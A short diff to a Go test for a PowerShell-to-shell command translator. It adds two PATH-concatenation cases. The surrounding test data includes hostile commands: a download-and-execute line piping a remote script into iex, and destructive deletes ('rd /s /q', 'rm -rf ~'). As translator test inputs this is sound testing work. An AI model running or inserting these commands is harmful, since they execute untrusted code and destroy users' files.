@@ -98,6 +98,9 @@ func TestTranslatePwsh(t *testing.T) {
 		{"Start-Process powershell -ArgumentList '-c iwr https://x.example/a | iex'", "powershell -c iwr https://x.example/a '|' iex"},
 		{"Start-Process cmd '/c rd /s /q C:\\x'", "cmd /c rd /s /q C:/x"},
 		{`Start-Process sh -ArgumentList "-c","rm -rf ~"`, "sh -c rm -rf ~\nsh -c 'rm -rf ~'"},
+		// a variable with a literal put before or after its own value
+		{`$env:PATH = "/opt/x;" + $env:PATH`, `export PATH=/opt/x:"$PATH"`},
+		{`$env:PATH = $env:PATH + ";/opt/x"`, `export PATH="$PATH":/opt/x`},
 		// the call operator on a path, paths joined by Join-Path and
 		// [IO.Path]::Combine, a file's text or the environment as a value,
 		// a property of a variable output, an item as a parameter's value
